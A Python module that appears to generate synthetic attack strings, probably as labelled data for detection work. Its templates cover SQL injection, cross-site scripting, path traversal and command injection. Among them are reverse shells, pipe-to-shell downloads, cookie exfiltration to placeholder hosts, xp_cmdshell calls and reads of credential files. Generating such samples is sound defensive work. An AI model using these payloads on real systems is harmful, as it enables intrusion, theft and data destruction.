#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""Made-up attacks: SQL injection, cross-site scripting, traversal, commands.

Lives here: how attacks are written, from what is publicly known of each kind of
hole. What doesn't: lists (http_data.py), harmless values and sites
(http_make.py). No line of a list that is held out was copied here, and none
was looked at beyond the first five, which told how a list is written.
"""
import base64
import random
import string

WORDS = """account address admin album archive article author avatar basket blog board book brand build
calendar cart case category channel chart chat city class client code color comment company config contact
content country course customer data date day detail device doc download draft edit email event export feed
field file filter folder form gallery game group guide help home image import inbox index info invoice item
job label language level library link list local login mail map member menu message meta mode month movie
music name news note number offer office option order owner page panel parent part payment period person
phone photo place plan player post price print product profile project query question rate record region
report result review room rule sale sample schedule school score search section series service session
setting share shop side site size sort source staff stage start state status step stock store story style
summary support system table tag target task team template term test text theme thread ticket time title
token tool topic track type unit update upload user value video view visit week widget year zone""".split()


class Attacks:
    """All that is drawn; equal seeds give equal values."""

    def __init__(self, seed, text):
        self.r = random.Random(seed)
        self.text = text	# lists of benign values: sentences, names, domains, logs, params
        # What is used again and again is drawn once: that is much quicker.
        self.scripts = [self.draw_script() for _ in range(2000)]

    def one(self, *of):
        return self.r.choice(of)

    def maybe(self, p, value, other=""):
        return value if self.r.random() < p else other

    def number(self, digits=6):
        return str(self.r.randrange(10 ** self.r.randint(1, digits)))

    def letters(self, low=3, high=8, alphabet=string.ascii_lowercase):
        return "".join(self.r.choice(alphabet) for _ in range(self.r.randint(low, high)))

    def word(self):
        x = self.r.random()
        return self.r.choice(WORDS) if x < 0.5 else self.letters() if x < 0.7 else \
            self.r.choice(self.r.choice(self.text["sentences"]).split()).strip(",.;:!?'\"")

    # ---- SQL injection --------------------------------------------------

    def sql_value(self):
        n = self.number(4)
        return self.r.choice((
            "null", n, "1", "version()", "@@version", "user()", "database()", "current_user", "char(%s)" % n,
            "0x" + self.letters(4, 20, "0123456789abcdef"), "'%s'" % self.letters(1, 6), "concat(%s,0x3a,%s)" %
            (self.letters(), self.letters()), "group_concat(table_name)", "load_file('/etc/passwd')",
            "count(*)", self.word(), "chr(%s)||chr(%s)" % (n, n), "convert(int,%s)" % n, "hex(%s)" % n,
            "banner", "password", "username", "unhex(hex(%s))" % n, "md5(%s)" % n, "*", "current_database()"))

    def sql_table(self):
        return self.r.choice((
            "users", "information_schema.tables", "information_schema.columns", "mysql.user", "dual", "sysobjects",
            "all_tables", "pg_catalog.pg_class", "admin", "sysusers", "sqlite_master", "master..sysdatabases",
            "v$version", "members", "all_users", "generate_series(1,%s)" % self.number(7), self.word()))

    def sql_query(self, depth=0):
        where = self.maybe(0.4, " where %s" % (self.sql_test(depth + 1) if depth < 2 else "1=1"))
        what = ",".join(self.sql_value() for _ in range(self.r.choice((1, 1, 1, 2, 3))))
        table = self.sql_table() if depth > 1 or self.r.random() < 0.85 else \
            "(%s)%s" % (self.sql_query(depth + 1), self.letters(1, 3))
        return "select %s%s from %s%s%s" % (self.maybe(0.1, self.one("distinct ", "top 1 ", "all ")), what, table,
                                            where, self.maybe(0.2, " limit %s,1" % self.number(2)))

    def sql_test(self, depth=0):
        n, m, s = self.number(4), self.number(4), self.letters(1, 4)
        deep = "(%s)" % self.sql_query(depth + 1) if depth < 2 else "(select 1)"
        return self.r.choice((
            "1=1", "1=2", f"{n}={n}", f"{n}={m}", f"'{s}'='{s}'", f"'{s}'='{s}", f"\"{s}\"=\"{s}", f"'{s}' like '{s}",
            f"{n}<{m}", f"{n}>{m}", "1 like 1", "true", "not false", f"{n} between {m} and 9", f"{n} in ({n},{m})",
            f"ascii(substring({deep},{m},1))>{n}", f"length(database())={m}", f"exists{deep}", f"{deep}={n}",
            f"{n} is not null", f"{s}.{s}={s}.{s}", f"substr({deep},1,1)='{s}", f"{n}<>{m}", f"'{s}'!='{m}", f"1=1 and {n}={n}",
            f"{n} rlike {n}", f"{s} is null", f"{s} like '%{s}%", f"({n})=({n})", f"'1", "1", f"{n}=if(({n}={m}),sleep(5),{n})",
            f"'{s}' in ('{s}')", f"0x{n}=0x{n}", f"'{s}'||'{s}'='{s}{s}", f"{s}={n}", f"'{s}'>'{s}", f"{n}*{m}={n}"))

    def sql_time(self):
        n = self.one("5", "10", "1", "3", "20", "15")
        return self.r.choice((
            f"sleep({n})", f"benchmark({n}000000,md5({n}))", f"pg_sleep({n})", f"waitfor delay '0:0:{n}'",
            f"dbms_pipe.receive_message('{self.letters()}',{n})", f"(select * from (select(sleep({n})))a)",
            f"if(1=1,sleep({n}),0)", f"(select {n} from pg_sleep({n}))", f"randomblob({n}00000000)",
            f"waitfor time '23:{n}'", f"benchmark({n}0000000,encode('{self.letters()}',{n}))",
            f"(select count(*) from {self.sql_table()} a,{self.sql_table()} b,{self.sql_table()} c)"))

    def sql_error(self):
        q = self.sql_query()
        return self.r.choice((
            f"extractvalue({self.number(4)},concat(0x7e,({q})))", f"updatexml(1,concat(0x7e,({q})),1)",
            f"convert(int,({q}))", f"cast(({q}) as int)", f"(select 1 from(select count(*),concat(({q}),floor(rand(0)*2))x "
            f"from information_schema.tables group by x)a)", f"utl_inaddr.get_host_name(({q}))", f"exp(~({q}))",
            f"ctxsys.drithsx.sn(1,({q}))", f"xmltype(({q}))", f"1/(case when ({self.sql_test()}) then 1 else 0 end)",
            f"(case when ({self.sql_test()}) then 1 else ({q}) end)", f"json_keys((select convert(({q}) using utf8)))",
            f"gtid_subset(concat(0x7e,({q})),1)", f"make_set({self.sql_test()},1)", f"elt({self.sql_test()},1)",
            f"row(1,1)>(select count(*),concat(({q}),0x3a,floor(rand()*2)) x from dual group by x)",
            f"procedure analyse(extractvalue(1,concat(0x5c,({q}))),1)", f"utl_http.request('http://{self.letters()}.com/'||({q}))"))

    def sql_statement(self):
        t, w = self.sql_table(), self.word()
        return self.r.choice((
            f"drop table {t}", f"insert into {t} values ({self.sql_value()},{self.sql_value()})", f"update {t} set {w}={self.sql_value()}",
            f"delete from {t}", "exec xp_cmdshell 'dir'", f"exec master..xp_cmdshell 'ping {self.letters()}.com'", "shutdown",
            f"declare @{w} varchar(8000) set @{w}=0x{self.letters(8, 30, '0123456789abcdef')} exec(@{w})", f"create table {w}(a int)",
            f"select {self.sql_time()}", self.sql_time(), f"exec sp_makewebtask 'c:\\{w}.htm','select 1'", f"truncate table {t}",
            f"create user {w} identified by '{w}'", f"grant all on *.* to {w}", f"alter table {t} drop {w}", self.sql_query(),
            f"bulk insert {w} from 'c:\\{w}.txt'", f"if({self.sql_test()}) {self.sql_query()} else drop function {w}",
            f"insert into {t} ({w}) values ('{w}')", f"copy {w} from '/etc/passwd'", "commit", "begin; end", f"exec('s'+'elect {w}')",
            f"use {w}", f"call {w}({self.number(3)})", f"exec sp_executesql N'{self.sql_query()}'", f"rename table {t} to {w}"))

    def sql_tail(self):
        """What comes behind the value that was broken out of."""
        joint = self.one(" or ", " and ", " or ", " and ", " || ", " && ", " xor ", "||", "&&", " or not ", " and not ", " rlike ",
                         " like ", " having ", " having ", "|", "^", " div ", " mod ", "+", "-", "*", " in ", "=", " where ", " group by ")
        x = self.r.random()
        if x < 0.3:
            return joint + self.maybe(0.2, "(") + self.sql_test()
        if x < 0.5:
            columns = ",".join(self.sql_value() for _ in range(self.r.randint(1, 10)))
            return " union %sselect %s%s%s" % (self.maybe(0.5, self.one("all ", "distinct ")), columns, self.maybe(
                0.6, " from " + self.sql_table() + self.maybe(0.3, " where " + self.sql_test())),
                self.maybe(0.05, " into outfile '/var/www/%s.php'" % self.letters()))
        if x < 0.63:
            return ";" + self.maybe(0.5, " ") + self.sql_statement()
        if x < 0.73:
            return joint + self.sql_time()
        if x < 0.82:
            return joint + self.sql_error()
        if x < 0.88:
            return self.one(" order by %s", " group by %s having 1=1", " limit 1 offset %s", " order by %s desc", " procedure analyse(%s)",
                            " group by x having %s", " into outfile '/tmp/%s'", " into @%s", ",%s") % self.number(2)
        if x < 0.94:
            return joint + "(" + self.sql_query() + ")" + self.maybe(0.5, "=%s" % self.number(3))
        return self.one("'", "\"", "", "''", "' '", "'+'", "'||'", "'-'", "'='", "'*'", "' and '", "'^'0", "'=0", "'%26'1", "'div'1", "'-0", "'>-1",
                        "' or '", "'is not null", "'<>'", "' like '%", "'in('')", "'regexp'", "'or(1)or'", "'|0|'", "' rlike '", "'between'0'and'9")

    def sqli(self):
        x = self.r.random()
        if x < 0.07:		# a whole statement
            return self.sql_obscure(self.one(self.sql_query, self.sql_statement)() + self.maybe(0.3, self.one(";", "--", "#")))
        if x < 0.1:
            return self.sql_obscure(self.one(self.sql_time, self.sql_error)())
        base = self.one("", "", "1", "1", "-1", "0", self.number(5), "-" + self.number(4), self.word(), "x", "admin", "a", "null", "1.0", "%",
                        "foo", self.word() + " " + self.word(), "@" + self.word())
        quote = self.one("'", "'", "'", "\"", "", "", "')", "\")", ")", "'))", "\"))", "))", "`", "\\'", "%'", "''", "'/*", "`)", "';", "%')")
        end = self.one("", "", "", "--", "-- ", "-- -", "#", "/*", ";--", ";", "-- " + self.letters(4, 4), "#" + self.letters(3, 4), ")", ")--",
                       " and '1'='1", " or 'a'='a", " and ('%s'='%s" % (("x",) * 2), " and \"a\"=\"a", "\0", ";\0", "'", "\"", "`", " -- *",
                       "--+", "*/", "))#", ";/*", " and (('%s' like '%s" % (("ab",) * 2), " or '", "+'", "||'", ",1)--", "--\n")
        return self.sql_obscure(base + quote + self.sql_tail() + end)

    def sql_obscure(self, s):
        x = self.r.random()
        if x < 0.55:
            return s
        if x < 0.7:
            return s.replace(" ", self.one("/**/", "\t", "\n", "/*%s*/" % self.letters(), "  ", "+", "%0b", "/*!*/", "--%s\n" % self.letters(),
                                           "\xa0", "#%s\n" % self.letters(2, 6), "()"))
        if x < 0.76:
            for word in ("select", "union", "and", "or", "from", "all"):
                s = s.replace(f" {word} ", f" /*!{self.maybe(0.5, '50000')}{word}*/ ")
            return s
        if x < 0.82:		# brackets in place of blanks
            return s.replace("union select ", "union(select ").replace(" or ", "or(") + ")"
        if x < 0.88:
            return s.replace(" ", self.one("", "(", "+", "/**/+", "`"), self.r.randint(1, 4))
        if x < 0.93:
            return s.replace("select", self.one("sele/**/ct", "selselectect", "se%0blect", "select@", "select-", "select!", "select.1,", "select{x 1},"), 1)
        if x < 0.96:
            return s.replace("=", self.one(" like ", " = ", "<=>", " in ", " regexp ", ">", "!=", " is ", ":="))
        return s.replace("1", self.one("1e0", "1.", "(1)", "'1'", "~1", "!1", "-1", "0x31", "@a", "pi()", "true"), 1)

    # ---- cross-site scripting -------------------------------------------

    def script(self):
        return self.r.choice(self.scripts)

    def draw_script(self):
        w, n = self.letters(2, 6), self.number(4)
        url = "//%s.%s/%s" % (self.letters(), self.one("com", "cc", "ru", "rocks", "org"), w)
        return self.r.choice((
            "alert(1)", f"alert({n})", "alert('xss')", "alert(\"xss\")", "alert(document.cookie)", "prompt(1)", "confirm(1)", "alert`1`",
            "alert(/xss/)", f"alert(/{w}/.source)", "alert(document.domain)", f"document.location='http:{url}?'+document.cookie",
            f"eval('{w}')", "eval(name)", "eval(location.hash.slice(1))", "alert(string.fromcharcode(88,83,83))", "eval(atob('%s'))" %
            base64.b64encode(w.encode()).decode(), f"window.open('http:{url}')", f"document.write('<script src={url}></script>')",
            "top['al'+'ert'](1)", "self['alert'](1)", f"settimeout('alert(1)',{n})", "[].constructor.constructor('alert(1)')()",
            f"new image().src='{url}?c='+document.cookie", f"fetch('{url}')", "onerror=alert;throw 1", "(alert)(1)", "a=alert;a(1)",
            "\\u0061lert(1)", "window.alert(1)", f"location='javascript:alert({n})'", "parent.alert(1)", "write(1)", f"import('{url}')",
            "al\\u0065rt(1)", "document.body.innerhtml=''", f"function('alert({n})')()", "alert&lpar;1&rpar;", "alert&#40;1&#41;", "msgbox(1)",
            "this[/al/.source+/ert/.source](1)", "document.vulnerable=true", f"$.getscript('{url}')", "javascript:alert(1)", "console.log(1)",
            "with(document)alert(cookie)", "history.go(-1)", "execscript('alert(1)')", f"{w}()", "x=1;", "[1].find(alert)", "navigate('javascript:1')"))

    def break_name(self, name):
        """A word that filters look for, written another way."""
        x, at = self.r.random(), self.r.randrange(1, len(name))
        if x < 0.65:
            return name
        if x < 0.85:
            return name[:at] + self.one("\t", "\n", "\0", "&#x09;", "&tab;", "&#10;", "&newline;", "/**/", "\r", " ", "\\", "&#13;", "&#x0a;") + name[at:]
        form = self.one("&#%d;", "&#x%x;", "&#%07d", "\\x%02x", "\\u%04x", "&#%d")
        return "".join(form % ord(c) if i >= at else c for i, c in enumerate(name))

    def handler(self):
        return self.maybe(0.94, "on" + self.one(
            "error", "load", "click", "mouseover", "focus", "blur", "mouseenter", "toggle", "start", "animationend", "change", "submit",
            "keydown", "keyup", "paste", "drag", "scroll", "resize", "input", "begin", "beforeunload", "pageshow", "hashchange", "wheel",
            "mousemove", "mousedown", "mouseup", "unload", "readystatechange", "propertychange", "canplay", "dblclick", "select", "copy", "cut",
            "pointerover", "afterprint", "message", "finish", "bounce", "forminput", "activate", "contextmenu", "end", "repeat", "abort",
            "play", "touchstart", "filterchange", "beforeload", "storage", "popstate", "online"), "on" + self.letters(4, 9))

    def link(self):
        """A URL that is run."""
        x = self.r.random()
        if x < 0.65:
            return self.break_name(self.one("javascript", "javascript", "javascript", "vbscript", "livescript")) + \
                self.one(":", ":", ":", "&colon;", "&#58;", ": ") + self.maybe(0.1, "//%0a") + self.script()
        if x < 0.85:
            return "data:" + self.one("text/html", "text/html;base64", "image/svg+xml", "text/javascript", "", "text/html;charset=utf-8", ";base64") + "," + \
                self.one("<script>%s</script>" % self.script(), base64.b64encode(self.script().encode()).decode())
        return self.one("http:", "", "https:") + "//%s.%s/%s.%s" % (self.letters(), self.one("com", "cc", "rocks"), self.letters(), self.one(
            "js", "html", "css", "xml", "htc", "swf", "svg", "jpg"))

    def style(self):
        return self.r.choice((
            "width:expression(%s)" % self.script(), "background:url(%s)" % self.link(), "-moz-binding:url(%s#xss)" % self.link(),
            "behavior:url(%s)" % self.link(), "xss:expr/*x*/ession(%s)" % self.script(), "background-image:url('%s')" % self.link(),
            "list-style-image:url(\"%s\")" % self.link(), "animation-name:x", "x:ex\\pression(%s)" % self.script(), "color:red;-o-link:'%s';-o-link-source:current"
            % self.link(), "position:fixed;top:0;width:100%;height:100%", "@import'%s'" % self.link(), "*{x:expression(%s)}" % self.script()))

    def attribute(self):
        quote = self.one("", "", "\"", "'", "`", "\"", "'")
        x = self.r.random()
        if x < 0.5:
            return self.handler() + self.one("=", "=", "=", " = ", "\n=", "\t=", "&#61;") + quote + self.script() + quote
        if x < 0.85:
            return self.one("src", "href", "data", "action", "formaction", "xlink:href", "background", "poster", "content", "code", "dynsrc", "lowsrc", "srcdoc",
                            "to", "from", "values", "folder", "codebase", "datasrc", "implementation") + "=" + quote + self.link() + quote
        return "style=" + (quote or "\"") + self.style() + (quote or "\"")

    def tag(self):
        name = self.one("img", "svg", "body", "iframe", "script", "input", "a", "div", "object", "embed", "video", "audio", "form", "button", "meta", "link",
                        "style", "marquee", "isindex", "details", "math", "table", "td", "frameset", "base", "bgsound", "layer", "xml", "select", "textarea",
                        "keygen", "applet", "image", "source", "p", "b", "x", "animate", "set", "foreignobject", "noscript", "xss", "br", "h1", "html", "title",
                        "frame", "comment", "event-source", "handler", "listener", "use", "span", "option", "param", self.letters(1, 6))
        gap = self.one(" ", " ", " ", "/", "\n", "\t", " / ", "\f", "//", "/**/", "\0", " x=1 ", "\r", "/x/", "\xa0", "\"", "%0c")
        more = self.one("", "", "src=x ", "src=1 ", "autofocus ", "id=x ", "href=# ", "open ", "type=image ", "width=1 ", "%s=%s " % (self.letters(), self.number(2)),
                        "type=\"text/%s\" " % self.letters(), "allowscriptaccess=always ", "rel=stylesheet ", "http-equiv=refresh ", "attributename=href ", "style=x ")
        return self.one("<", "<", "<", "<", "<<", "< ", "</", "<%00", "<!") + self.break_name(name + "x")[:-1] + gap + more + self.attribute() + self.one(
            ">", ">", ">", "/>", "", "//", " x=", "<", "></%s>" % name, ">%s</%s>" % (self.letters(), name), "\n>")

    def xss(self):
        x = self.r.random()
        before = self.maybe(0.35, self.one("\">", "'>", ">", "\"", "'", "</script>", "</title>", "</textarea>", "-->", "]]>", "</style>", self.word(), self.number(4),
                                           "\"'>", "\" ", "</div>", "%22>", "`>", "\\\">", ";", "*/", "</a>", "test ", "1 ", "}"))
        if x < 0.27:
            script = self.break_name("script")
            opening = self.one("<%s>", "<%s>", "<%s >", "<%s/x>", "<<%s>", "<%s type=text/javascript>", "<%s\n>", "<%s language=vbscript>", "<scr<script>ipt>",
                               "&lt;%s&gt;", "\\x3c%s\\x3e", "\\u003c%s\\u003e", "+adw-%s+ad4-", "<%s x>", "<%s>//", "<%s defer>", "<svg><%s>", "<%s>/*", "<%s\t>",
                               "&#60;%s&#62;", "<%s <b>", "<%s a=\">\">", "[%s]", "\xbc%s\xbe", "<%s/src=data:,>")
            return before + opening.replace("%s", script) + self.script() + self.one("</script>", "</script>", "</script >", "", "//", "<", "</script x>", "&lt;/script&gt;",
                                                                                     "<\\/script>", ";</script>", "//</script>", "\\x3c/script\\x3e", "</scr")
        if x < 0.32:
            return before + "<script%ssrc=%s>%s" % (self.one(" ", "/", "\n", " x "), self.link(), self.maybe(0.7, "</script>"))
        if x < 0.72:
            return before + self.tag() + self.maybe(0.15, self.tag())
        if x < 0.8:		# out of an attribute
            q = self.one("\"", "'", "`", "\" ", "' ")
            return self.maybe(0.4, self.word()) + q + self.one(" ", "/", "\n", "") + self.attribute() + self.maybe(0.4, self.one(" x=" + q, " " + q, "//", " a"))
        if x < 0.88:		# out of a string
            q = self.one("'", "\"", "\\'", "\\\"", "`", "</script>", "'}", "\"]", "\")", "')")
            return self.maybe(0.3, self.word()) + q + self.one(";", "-", "+", "||", ";//\n", "*", ",", ");") + self.script() + self.one("//", ";//", "-" + q, "+" + q, "", ";var a=" + q)
        if x < 0.93:
            return before + self.link()
        if x < 0.96:
            return before + self.one("<style>%s</style>", "<style>@import'%s';</style>", "<%s", "<style>*{%s}</style>", "<p style=\"%s\">", "<xml><i><![cdata[%s]]></i></xml>",
                                     "<!--[if gte ie 4]><script>%s</script><![endif]-->", "<!--<img src=\"--><img src=x onerror=%s//\">", "<?xml version=\"1.0\"?><x>%s</x>",
                                     "<html:script>%s</html:script>", "<![cdata[<script>%s</script>]]>", "<?%s?>", "<%%%s%%>") % self.one(self.script, self.style)()
        return self.maybe(0.5, before) + self.script() + self.maybe(0.4, self.one(";", "//", "</script>", ">"))

    # ---- traversal ------------------------------------------------------

    def system_file(self):
        root = self.one("etc", "etc", "var/log", "usr/local/etc", "proc/self", "usr/local/apache/conf", "opt", "usr/lib", "root", "home/%s" % self.letters(), "var/www",
                        "var/lib/mysql", "windows", "winnt", "windows/system32", "boot", "inetpub/logs", "program files/%s" % self.letters(), "etc/%s" % self.letters(),
                        "var/%s" % self.letters(), "usr/%s/%s" % (self.letters(), self.letters()), "xampp/%s" % self.letters(), "usr/local/%s/conf" % self.letters())
        name = self.one("passwd", "shadow", "hosts", "group", "issue", "motd", "fstab", "environ", "cmdline", "httpd.conf", "access.log", "error.log", "access_log", "error_log",
                        "php.ini", "my.cnf", "my.ini", "win.ini", "system.ini", "boot.ini", "config", "web.xml", "sam", "crontab", ".bash_history", ".ssh/id_rsa", "messages",
                        "vsftpd.conf", "nginx.conf", "web.config", "global.asa", "fd/%s" % self.number(1), "resolv.conf", "auth.log", "maillog", "%s.conf" % self.letters(),
                        "%s.log" % self.letters(), "version", "mounts", "drivers/etc/hosts", "%s_log" % self.letters(), "logs/%s.log" % self.letters(), "inittab", "profile")
        return self.one("%s/%s" % (root, name), "%s/%s" % (root, name), "etc/passwd", "etc/shadow", "windows/win.ini", "boot.ini", "{file}", "web-inf/web.xml", ".htaccess",
                        ".env", ".git/config", "wp-config.php", "config.php", "proc/self/environ", "{FILE}", name)

    def climb(self):
        up = self.one("../", "../", "../", "..\\", "..\\", "....//", "..//", "..;/", "..../", "..\\/", "/..", "\\..", ".../", "./../", "..%c0%af", "..%c1%9c", "..%5c", "..%2f",
                      "%2e%2e/", "%2e%2e%2f", "..%252f", "%252e%252e%252f", "..0x2f", "0x2e0x2e/", "0x2e0x2e0x5c", ".%00./", "..%u2215", "..%u2216", "%c0%ae%c0%ae/", "..%255c", "..%ef%bc%8f",
                      "....\\\\", "/./..", "..///", "..\\\\\\", "/%2e%2e", "..%01/", "..%bg%qf", "%uff0e%uff0e/", "..%e0%80%af", "%%32%65%%32%65/", ".?/", "..%00/", "..\\./", "././",
                      "%c0%2e%c0%2e/", "..%c0%2f", "..%f0%80%80%af", "..%f8%80%80%80%af", "%252e%252e%255c", "..%%35%63", "..%25c0%25af", "//../", "/.//..//", "..0x5c")
        return up * self.r.choice((1, 2, 2, 3, 3, 4, 5, 6, 6, 7, 8, 8, 9, 10, 12, 15))

    def traversal(self):
        name, x = self.system_file(), self.r.random()
        end = self.maybe(0.25, self.one("%00", "%00.jpg", "%00.html", ".jpg", "?", "/.", "%00index.html", ".php", "%20", "%0a", "%2500.jpg", "/" * 9, "\0", "::$data", "%00/", "#"))
        if x < 0.7:
            slash = self.one("/", "/", "/", "\\", "%2f", "%5c", "//", "%252f", "0x2f", "%c0%af")
            return self.maybe(0.3, self.one("/", "\\", "%00", "/%2e", "./", "/%5c", "images/", "file=", self.word() + "/", "/./", "c:/", "\\\\", "/%s/" % self.word(), "//")) + \
                self.climb() + name.replace("/", slash) + end
        if x < 0.88:
            return self.one("/", "/", "/", "c:\\", "c:/", "file:///", "//", "/./", "d:\\", "file://", "\\", "%00/", "/%00//", "%2f", "/private/", "/../", "file:/") + \
                name.replace("/", self.one("/", "/", "/", "\\", "//", "%2f", "/./")) + end
        if x < 0.95:
            return self.one("php://filter/convert.base64-encode/resource=", "php://filter/read=string.rot13/resource=", "expect://", "zip://", "phar://", "file://localhost/", "data://text/plain;base64,",
                            "php://input", "jar:file:///", "netdoc:///", "compress.zlib://", "glob://") + name
        return self.one("/", "") + self.climb() + self.maybe(0.5, self.one("", "*", ".", "%3f", "//", "{file}"))

    # ---- commands -------------------------------------------------------

    def command_line(self):
        w, host = self.letters(), self.one("127.0.0.1", "10.0.0.%s" % self.number(2), self.letters() + ".com", "localhost", "192.168.1.%s" % self.number(2))
        path = self.one("/etc/passwd", "/etc/shadow", "/", "/etc/hosts", "/home", "/var/log", "c:\\", "/tmp/" + w, "c:\\boot.ini", ".", "/etc/group", "../" + w)
        return self.r.choice((
            "id", "id", "whoami", "uname -a", "cat " + path, "ls -la " + path, "ls " + path, "ping -c %s %s" % (self.number(2), host), "ping -n 10 " + host, "sleep " + self.number(2),
            "wget http://%s/%s" % (host, w), "curl http://%s/%s|sh" % (host, w), f"nc -e /bin/sh {host} {self.number(4)}", f"bash -i >& /dev/tcp/{host}/{self.number(4)} 0>&1",
            "python -c 'import os;os.system(\"id\")'", "perl -e 'print 1'", "php -r 'phpinfo();'", "echo " + w, "netstat -an", "netstat", "ifconfig", "ps aux", "ps -ef", "rm -rf " + path,
            "chmod 777 " + path, "dir " + path, "type " + path, "net user", "net user %s %s /add" % (w, w), "ipconfig /all", "systeminfo", "reboot", "touch /tmp/" + w, "find / -name " + w,
            "env", "set", "pwd", "hostname", "w", "who", "date", "echo %s > /tmp/%s" % (w, w), "nslookup " + host, "powershell -c " + w, "cmd /c dir", "cmd.exe /c " + w, "head " + path,
            "tail " + path, "more " + path, "less " + path, "grep root " + path, "mail %s@%s < %s" % (w, host, path), "telnet " + host, "ssh " + host, "cp %s %s" % (path, w), "mv a b",
            "kill -9 1", "shutdown now", "df -h", "last", "finger", "tftp -i " + host, "xterm -display " + host, "awk '{print}' " + path, "base64 -d", "traceroute " + host, "ls", "ls -l", "dir",
            "/usr/bin/id", "/bin/ls -al", "/bin/cat " + path, "/bin/sleep 5", "cat " + w, "echo %s" % self.number(5), "nmap " + host, "sh -c id", "/bin/sh", "/bin/bash", "which " + w, "sudo su"))

    def command_obscure(self, s):
        x = self.r.random()
        if x < 0.75:
            return s
        if x < 0.85:
            return s.replace(" ", self.one("${ifs}", "$ifs$9", "$ifs", "\t", "{ifs}", "<", "%09", "+"))
        if x < 0.92:
            at = self.r.randrange(1, max(len(s), 2))
            return s[:at] + self.one("''", "\"\"", "\\", "$@", "`", "$()") + s[at:]
        return self.one("$(echo %s|base64 -d|sh)" % base64.b64encode(s.encode()).decode(), s.replace("a", "?"), "{%s}" % s.replace(" ", ","), "eval '%s'" % s)

    def command(self):
        x = self.r.random()
        c = self.command_obscure(self.command_line())
        base = self.maybe(0.55, self.one(self.number(4), self.word(), "a", "1", "'", "\"", "')", "a)", "127.0.0.1", "x'", "test", "\\", "/index.html", "%s.txt" % self.word(), "$"))
        if x < 0.6:
            sep = self.one(";", ";", "; ", "|", "|", "| ", "||", "|| ", "&", "&& ", "&&", "\n", "%0a", "%0d%0a", ";;", "|&", " ; ", " | ", " && ", "&;", "\r\n", "^", ">", "<", "';", "\";", ");", ")|")
            end = self.maybe(0.4, self.one(";", "|", "&", "#", "||", "\n", " #", "%00", "'", "\"", "&&", " ;", "|| x", ";'", "%0a", " &", "; echo", ">/dev/null"))
            return base + sep + c + end
        if x < 0.76:
            return base + self.one("`%s`", "$(%s)", "${%s}", "\"`%s`\"", "|`%s`|", ";`%s`", "'$(%s)'", "<(%s)", "&`%s`&", "`%s`;") % c
        if x < 0.8:
            return self.maybe(0.3, base) + self.one("/usr/bin/%s", "/bin/%s", "../bin/%s", "%s|", "%s;", "%s&", "/bin/%s|", "+|+%s|", "|+%s", "| /bin/%s", "../../../bin/%s|") % c
        if x < 0.9:
            call = self.one("system", "exec", "passthru", "shell_exec", "popen", "eval", "assert", "os.system", "proc_open", "runtime.getruntime().exec", "print", "phpinfo", "backticks", "include",
                            "require('child_process').exec", "__import__('os').system", "base64_decode", "preg_replace", "call_user_func", "file_get_contents")
            body = self.one("%s('%s')", "%s('%s');", ";%s('%s')", "<?php %s('%s'); ?>", "${@%s('%s')}", "';%s('%s');//", "<?=%s('%s')?>", "<?%s('%s');?>", "{${%s('%s')}}", ";%s('%s');//", ".%s('%s').")
            return self.maybe(0.3, base) + body % (call, self.one(c, c, self.number(2), ""))
        if x < 0.95:
            return self.maybe(0.2, base) + self.one('<!--#exec cmd="%s"-->', '<!--#exec cmd="%s" -->', '<!--#include file="%s"-->', '<!--#include virtual="%s" -->', '<!--#echo var="%s" -->',
                                                    "<!--#exec cmd='%s'-->", '<!--#config timefmt="%s"-->', '<!--#printenv %s-->') % self.one(c, self.system_file(), "document_name", "/bin/" + c)
        return self.one("() { :;}; %s", "${jndi:ldap://%s.com/a}", "{{%s}}", "#{%s}", "${%s}", "{{''.__class__.__mro__[2].__subclasses__()}}%s", "<%%= %s %%>", "%%{(#_='multipart').(#cmd='%s')}",
                        "${t(java.lang.runtime).getruntime().exec('%s')}", "{{config.%s}}", "() { _; } >_[$($())] { %s; }", "{{request.application.%s}}", "${${lower:j}ndi:dns://%s}") % self.one(c, self.letters(), "7*7")
